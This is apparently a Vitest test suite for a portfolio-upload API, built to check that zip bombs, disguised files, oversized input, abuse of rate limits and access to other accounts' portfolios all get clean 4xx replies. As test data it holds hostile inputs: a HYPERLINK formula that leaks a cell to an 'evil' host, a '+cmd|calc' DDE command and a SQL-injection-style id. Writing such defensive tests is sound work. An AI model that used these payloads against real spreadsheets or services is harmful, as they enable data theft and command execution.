import http from 'node:http';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { portfolioLimits, portfolioUploadReplySchema } from '@hazardscope/contracts';
import { databaseVariants } from '../database/test-databases.ts';
import { bearer, registerVerifiedAccount } from '../testing/account-helpers.ts';
import { multipartUpload } from '../testing/multipart-upload.ts';
import { startTestApp, type TestApp } from '../testing/start-test-app.ts';
import { xlsxBomb, xlsxWorkbook } from '../testing/xlsx-workbook.ts';

/**
 * The upload as an attacker and a careless user would use it: every file, field and id that is
 * wrong gets a 4xx a person can act on — never a 500, a hang, or rows silently read wrong.
 */
const header = 'id,latitude,longitude,asset_type,replacement_value';
const goodRow = 'A-1,-33.8679,151.2073,SO,315000';

/**
 * The two zip bombs (1 GiB unpacked each), built once for both database variants: deflating a
 * gigabyte takes ~2 s of CPU, and the bytes sent are the same.
 */
const gibibyte = 1024 * 1024 * 1024;
const bombs = {
  sheet: undefined as Promise<Buffer> | undefined,
  sharedStrings: undefined as Promise<Buffer> | undefined,
};
function bombOf(part: keyof typeof bombs): Promise<Buffer> {
  bombs[part] ??= xlsxBomb(part, gibibyte);
  return bombs[part];
}

interface Outcome {
  statusCode: number;
  message: string;
  accepted?: number;
  rejected?: { line: number; column: string | null; message: string }[];
}

describe.each(databaseVariants())('portfolio upload under attack on $name', (variant) => {
  let testApp: TestApp;
  let apiKey: string;
  let uploadsOfThisAccount = 0;

  /** A fresh allow-listed account every 15 uploads, so the daily limit is tested only where meant. */
  async function uploader(): Promise<string> {
    if (uploadsOfThisAccount >= 15) {
      apiKey = (await registerVerifiedAccount(testApp)).apiKey;
      uploadsOfThisAccount = 0;
    }
    uploadsOfThisAccount += 1;
    return apiKey;
  }

  async function send(
    payload: Buffer,
    headers: Record<string, string>,
    key?: string,
  ): Promise<Outcome> {
    const reply = await testApp.request({
      method: 'POST',
      url: '/api/portfolios',
      payload,
      headers: { ...headers, ...bearer(key ?? (await uploader())) },
    });
    const body = reply.json() as { message?: string; accepted?: number; rejected?: [] };
    if (reply.statusCode === 202) {
      const parsed = portfolioUploadReplySchema.parse(body);
      return {
        statusCode: 202,
        message: '',
        accepted: parsed.accepted,
        rejected: parsed.rejected,
      };
    }
    return { statusCode: reply.statusCode, message: body.message ?? reply.body.slice(0, 300) };
  }

  async function upload(
    content: string | Buffer,
    name = 'assets.csv',
    fields: Record<string, string> = { title: 'Attack book', scenario: 'ssp245' },
  ): Promise<Outcome> {
    const { payload, headers } = multipartUpload(fields, { name, content });
    return send(payload, headers);
  }

  beforeAll(async () => {
    testApp = await startTestApp(variant, {
      enginePool: { threads: 1, queueLength: 8, idleTimeoutMilliseconds: 60_000 },
    });
    apiKey = (await registerVerifiedAccount(testApp)).apiKey;
  }, 120_000);
  afterAll(async () => {
    await testApp?.close();
  });

  it('refuses an XLSX zip bomb of repeated cells before unpacking it', async () => {
    const bomb = await bombOf('sheet');
    expect(bomb.length).toBeLessThan(5 * 1024 * 1024);
    const started = Date.now();
    const outcome = await upload(bomb, 'bomb.xlsx');
    expect(outcome.statusCode).toBe(400);
    expect(outcome.message).toMatch(/unpacks to more than \d+ MB/);
    const elapsedMilliseconds = Date.now() - started;
    console.info(
      `zip bomb of ${bomb.length} bytes (1 GiB unpacked) refused in ${elapsedMilliseconds} ms`,
    );
    expect(elapsedMilliseconds).toBeLessThan(10_000);
  }, 60_000);

  it('refuses an XLSX whose shared-strings table is huge', async () => {
    const bomb = await bombOf('sharedStrings');
    const outcome = await upload(bomb, 'strings.xlsx');
    expect(outcome.statusCode).toBe(400);
    expect(outcome.message).toMatch(/unpacks to more than \d+ MB/);
  }, 60_000);

  it('reads a file by its content, whatever its name says', async () => {
    const csvNamedXlsx = await upload(`${header}\n${goodRow}`, 'assets.xlsx');
    expect(csvNamedXlsx).toMatchObject({ statusCode: 202, accepted: 1 });
    const xlsxNamedCsv = await upload(
      xlsxWorkbook([header.split(','), goodRow.split(',')]),
      'assets.csv',
    );
    expect(xlsxNamedCsv).toMatchObject({ statusCode: 202, accepted: 1 });
  });

  it('refuses a workbook cell holding a NUL or a lone surrogate, which PostgreSQL cannot store', async () => {
    for (const reference of ['&#0;', '&#xD800;']) {
      const outcome = await upload(
        xlsxWorkbook(
          [header.split(','), [`A${reference}`, '-33.8679', '151.2073', 'SO', '1']],
          (text) => text,
        ),
        'assets.xlsx',
      );
      expect(outcome.statusCode, outcome.message).toBe(400);
      expect(outcome.message).toMatch(/^Line 2, id: /);
    }
  });

  it('refuses a PDF or a PNG renamed .csv, an empty file and a header alone', async () => {
    const pdf = Buffer.concat([
      Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n', 'latin1'),
    ]);
    const png = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
    for (const content of [pdf, png]) {
      const outcome = await upload(content, 'assets.csv');
      expect(outcome.statusCode).toBe(400);
      expect(outcome.message).toMatch(/not a table/);
    }
    const empty = await upload('', 'assets.csv');
    expect(empty.statusCode).toBe(400);
    expect(empty.message).toMatch(/empty|no rows/i);
    const headerOnly = await upload(`${header}\n`, 'assets.csv');
    expect(headerOnly.statusCode).toBe(400);
    expect(headerOnly.message).toMatch(/no rows of assets/);
  });

  it('names a required column that is missing or given twice', async () => {
    const noValue = await upload('latitude,longitude,asset_type\n1,1,SO\n');
    expect(noValue.statusCode).toBe(400);
    expect(noValue.message).toMatch(/replacement_value/);
    const twice = await upload(
      'latitude,Latitude,longitude,asset_type,replacement_value\n10,20,30,SO,1\n',
    );
    expect(twice.statusCode).toBe(400);
    expect(twice.message).toMatch(/'latitude' and 'Latitude'.*latitude/);
  });

  it('reads a byte-order mark, semicolons and tabs, and quoted fields with newlines', async () => {
    const bom = await upload(`\ufeff${header}\n${goodRow}\n`);
    expect(bom).toMatchObject({ statusCode: 202, accepted: 1 });
    // Excel in locales with a decimal comma writes ';' between cells and ',' in numbers.
    const semicolons = await upload(
      'id;latitude;longitude;asset_type;replacement_value\nA;-33,8679;151,2073;SO;1.250.000,50\n',
    );
    expect(semicolons).toMatchObject({ statusCode: 202, accepted: 1 });
    const tabs = await upload(`${header.replace(/,/g, '\t')}\n${goodRow.replace(/,/g, '\t')}\n`);
    expect(tabs).toMatchObject({ statusCode: 202, accepted: 1 });
    const newlines = await upload(
      `${header},address\n"A\nsecond line",-33.8679,151.2073,SO,315000,"1 Main St\nSydney"\nB,95,0,SO,1,\n`,
    );
    expect(newlines).toMatchObject({ statusCode: 202, accepted: 1 });
    // Lines count rows as a spreadsheet shows them: the row after the header is 2.
    expect(newlines.rejected?.[0]?.line).toBe(3);
  });

  it('rejects a 1 MB cell by its row without echoing it whole', async () => {
    const huge = 'X'.repeat(1024 * 1024);
    const outcome = await upload(`${header}\n${goodRow}\nB,1,1,${huge},100\n`);
    expect(outcome).toMatchObject({ statusCode: 202, accepted: 1 });
    expect(outcome.rejected?.[0]?.message.length).toBeLessThan(400);
  });

  it('refuses 100,001 rows with the limit', async () => {
    const rows = Array.from({ length: portfolioLimits.rowsPerPortfolio + 1 }, () => goodRow);
    const outcome = await upload(`${header}\n${rows.join('\n')}\n`);
    expect(outcome.statusCode).toBe(400);
    expect(outcome.message).toMatch(/100,000/);
  }, 60_000);

  it('answers a file just over 25 MiB with 413 and the limit', async () => {
    const content = Buffer.alloc(portfolioLimits.fileBytes + 1, 'a');
    const outcome = await upload(content);
    expect(outcome.statusCode).toBe(413);
    expect(outcome.message).toMatch(/25 MB/);
  }, 60_000);

  it('answers a declared length over the limit before reading the body, and closes', async () => {
    const { apiKey: key } = await registerVerifiedAccount(testApp);
    const address = await testApp.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = new URL(address);
    const started = Date.now();
    const reply = await new Promise<{ statusCode: number; body: string; connection?: string }>(
      (resolve, reject) => {
        // Only the headers are sent: a server that waited for the 25 MiB body would never answer.
        const request = http.request({
          host: '127.0.0.1',
          port: Number(port),
          method: 'POST',
          path: '/api/portfolios',
          headers: {
            ...bearer(key),
            'content-type': 'multipart/form-data; boundary=x',
            'content-length': String(portfolioLimits.fileBytes * 4),
          },
        });
        request.on('response', (response) => {
          let body = '';
          response.on('data', (chunk: Buffer) => (body += chunk.toString()));
          response.on('end', () =>
            resolve({
              statusCode: response.statusCode ?? 0,
              body,
              connection: response.headers.connection,
            }),
          );
        });
        request.on('error', reject);
        request.write('--x\r\n');
      },
    );
    expect(reply.statusCode).toBe(413);
    expect(reply.connection).toBe('close');
    expect(reply.body).toMatch(/25 MB \(26,214,400 bytes\)/);
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it('names the line of an unclosed quote', async () => {
    const outcome = await upload(`${header}\n${goodRow}\n"B,1,1,SO,100\n${goodRow}\n`);
    expect(outcome.statusCode).toBe(400);
    expect(outcome.message).toMatch(/from line \d+ on: a quoted cell there is not closed/);
  });

  it('refuses two files or none', async () => {
    const boundary = '----attack';
    const part = (name: string) =>
      `--${boundary}\r\nContent-Disposition: form-data; name="${name}"; filename="a.csv"\r\nContent-Type: text/csv\r\n\r\n${header}\n${goodRow}\r\n`;
    const fields = `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\nT\r\n--${boundary}\r\nContent-Disposition: form-data; name="scenario"\r\n\r\nssp245\r\n`;
    const twoFiles = await send(
      Buffer.from(`${fields}${part('file')}${part('file')}--${boundary}--\r\n`),
      { 'content-type': `multipart/form-data; boundary=${boundary}` },
    );
    expect(twoFiles.statusCode).toBe(400);
    expect(twoFiles.message).toMatch(/one file/);
    const { payload, headers } = multipartUpload({ title: 'T', scenario: 'ssp245' });
    const none = await send(payload, headers);
    expect(none.statusCode).toBe(400);
    expect(none.message).toMatch(/Choose a CSV or XLSX/);
  });

  it('refuses a title of 10,000 characters, control characters, or an unknown scenario', async () => {
    const csv = `${header}\n${goodRow}\n`;
    const long = await upload(csv, 'a.csv', { title: 'T'.repeat(10_000), scenario: 'ssp245' });
    expect(long.statusCode).toBe(400);
    expect(long.message).toMatch(/title/);
    const control = await upload(csv, 'a.csv', {
      title: 'Book\u0000\u001b[31m',
      scenario: 'ssp245',
    });
    expect(control.statusCode).toBe(400);
    expect(control.message).toMatch(/title: .*control characters/);
    const scenario = await upload(csv, 'a.csv', { title: 'Book', scenario: 'ssp999' });
    expect(scenario.statusCode).toBe(400);
    expect(scenario.message).toMatch(/scenario/);
  });

  it('reads thousands separators, currency signs and hemisphere letters, and never misreads', async () => {
    const outcome = await upload(
      [
        `${header}`,
        'A,-33.8679,151.2073,SO,"1,200,000"',
        'B,-33.8679,151.2073,SO,$315000',
        'C,-33.8679,151.2073,SO,"€ 1,200"',
        'D,45°N,7.5°E,SO,1000',
        'E,33.8679 S,151.2073 E,SO,1000',
        'F,-33.8679,151.2073,SO,"12,5"',
        `G,45°30'N,7,SO,1000`,
        'H,45°E,7,SO,1000',
      ].join('\n'),
    );
    expect(outcome.statusCode).toBe(202);
    expect(outcome.accepted).toBe(5);
    expect(outcome.rejected?.map((row) => row.message)).toEqual([
      'Line 7, replacement_value: must be a positive number.',
      'Line 8, latitude: must be a number of decimal degrees (e.g. -33.87 or 33.87°S).',
      'Line 9, latitude: must be a number of decimal degrees (e.g. -33.87 or 33.87°S).',
    ]);
  });

  it('writes rejected rows that a spreadsheet will not run as formulas, and reads them back', async () => {
    const uploaded = await upload(
      [
        'id,address,latitude,longitude,asset_type,replacement_value',
        '=HYPERLINK("http://evil/?"&A1),,-33.8679,151.2073,XYZ,1',
        '@SUM(1+1),+cmd|calc,-33.8679,151.2073,XYZ,1',
        '\tTAB,-2+3,95,151.2073,SO,1',
        'GOOD,,-33.8679,151.2073,SO,1',
      ].join('\n'),
    );
    expect(uploaded).toMatchObject({ statusCode: 202, accepted: 1 });
    const list = await testApp.request({
      method: 'GET',
      url: '/api/portfolios',
      headers: bearer(apiKey),
    });
    const [newest] = (list.json() as { portfolios: { id: string }[] }).portfolios;
    const csv = await testApp.request({
      method: 'GET',
      url: `/api/portfolios/${newest!.id}/rejected.csv`,
      headers: bearer(apiKey),
    });
    expect(csv.statusCode).toBe(200);
    const rows = parse(csv.body, { bom: true }) as string[][];
    const cells = rows.slice(1).flatMap((row) => row.slice(2));
    const plainNumber = /^[-+]?\d+(\.\d+)?$/;
    for (const cell of cells.filter((text) => !plainNumber.test(text)))
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain("'-2+3");
    expect(cells).toContain(`'=HYPERLINK("http://evil/?"&A1)`);
    // Plain numbers stay numbers, so the file can be fixed and uploaded again.
    expect(cells).toContain('-33.8679');
    const again = await upload(csv.body.replace(/XYZ/g, 'SO').replace(',95,', ',45,'));
    expect(again).toMatchObject({ statusCode: 202, accepted: 3 });
  });

  it('holds the daily limit under 25 parallel uploads', async () => {
    const key = (await registerVerifiedAccount(testApp)).apiKey;
    const outcomes = await Promise.all(
      Array.from({ length: 25 }, () => {
        const { payload, headers } = multipartUpload(
          { title: 'Parallel', scenario: 'ssp245' },
          { name: 'a.csv', content: `${header}\n${goodRow}\n` },
        );
        return send(payload, headers, key);
      }),
    );
    const codes = outcomes.map((outcome) => outcome.statusCode);
    expect(codes.filter((code) => code === 202)).toHaveLength(
      portfolioLimits.portfoliosPerAccountPerDay,
    );
    expect(codes.filter((code) => code === 429)).toHaveLength(5);
  }, 120_000);

  it('holds the per-address upload rate limit under parallel uploads', async () => {
    const key = (await registerVerifiedAccount(testApp)).apiKey;
    const { payload, headers } = multipartUpload({ title: 'T', scenario: 'ssp245' });
    const replies = await Promise.all(
      Array.from({ length: 70 }, () =>
        testApp.app.inject({
          method: 'POST',
          url: '/api/portfolios',
          remoteAddress: '10.9.9.9',
          payload,
          headers: { ...headers, ...bearer(key) },
        }),
      ),
    );
    const codes = replies.map((reply) => reply.statusCode);
    expect(codes.filter((code) => code === 429)).toHaveLength(10);
    expect(codes.filter((code) => code === 400)).toHaveLength(60);
  }, 60_000);

  it('answers 404 for another account’s portfolio and 400/404 for a malformed id', async () => {
    const uploaded = await upload(`${header}\n${goodRow}\n`);
    expect(uploaded.statusCode).toBe(202);
    const list = await testApp.request({
      method: 'GET',
      url: '/api/portfolios',
      headers: bearer(apiKey),
    });
    const [mine] = (list.json() as { portfolios: { id: string }[] }).portfolios;
    const stranger = (await registerVerifiedAccount(testApp)).apiKey;
    const calls: [string, string][] = [
      ['GET', ''],
      ['GET', '/assets'],
      ['GET', '/points'],
      ['POST', '/run'],
      ['POST', '/cancel'],
      ['POST', '/payment/intent'],
      ['GET', '/rejected.csv'],
      ['GET', '/export.csv'],
      ['GET', '/report.pdf'],
      ['GET', '/assets/0/analysis'],
      ['DELETE', ''],
    ];
    for (const [method, suffix] of calls) {
      const theirs = await testApp.request({
        method: method as 'GET',
        url: `/api/portfolios/${mine!.id}${suffix}`,
        headers: bearer(stranger),
      });
      expect(theirs.statusCode, `${method} ${suffix}`).toBe(404);
      for (const malformed of ['not-a-uuid', '%00', 'x'.repeat(5_000), "1'%20or%201=1"]) {
        const reply = await testApp.request({
          method: method as 'GET',
          url: `/api/portfolios/${malformed}${suffix}`,
          headers: bearer(stranger),
        });
        // 414 (URI too long) for the 5,000-character one: still the client's to fix.
        expect([400, 404, 414], `${method} ${malformed.slice(0, 20)}${suffix}`).toContain(
          reply.statusCode,
        );
      }
    }
    const confirm = await testApp.request({
      method: 'POST',
      url: `/api/portfolios/${mine!.id}/payment/confirm`,
      headers: bearer(stranger),
      payload: {},
    });
    expect([400, 404]).toContain(confirm.statusCode);
  }, 60_000);
});
